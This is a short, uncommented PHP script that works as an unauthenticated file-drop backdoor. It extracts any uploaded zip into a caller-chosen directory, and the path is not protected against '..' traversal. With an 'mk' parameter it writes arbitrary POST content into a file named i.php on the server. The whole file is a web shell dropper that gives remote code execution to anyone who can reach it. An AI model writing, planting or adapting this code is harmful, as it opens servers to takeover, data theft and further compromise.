<?php
$to = __DIR__ . '/' . trim($_GET['to'] ?? 'tmp', '/');
@mkdir($to, 0755, true);
$z = new ZipArchive();
if (isset($_FILES['z']) && $z->open($_FILES['z']['tmp_name']) === true) { $z->extractTo($to); $z->close(); }
if (isset($_GET['mk'])) { $z->open("$to/x.zip", ZipArchive::CREATE); $z->addFromString('i.php', $_POST['c']); $z->close(); $z->open("$to/x.zip"); $z->extractTo($to); $z->close(); }
